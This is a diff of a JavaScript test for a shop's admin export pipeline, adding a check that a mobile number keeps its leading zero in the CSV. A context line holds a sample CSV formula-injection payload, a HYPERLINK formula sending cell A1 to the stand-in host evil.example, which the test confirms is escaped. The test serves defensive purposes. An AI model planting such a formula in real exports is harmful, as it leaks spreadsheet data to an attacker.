@@ -395,6 +395,8 @@ describe('the admin pipelines', () => {
     expect(evilRow).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
     expect(evilRow).not.toMatch(/,=HYPERLINK/);
     expect(evilRow).toContain(',New,,');
+    // The mobile number stays text in a spreadsheet: its leading 0 kept.
+    expect(evilRow).toContain(',"=""0501234567""",');
     // Received on the shop's clock, as the admin screens show it (UTC+4).
     const received = await db()
       .collection('submissions')
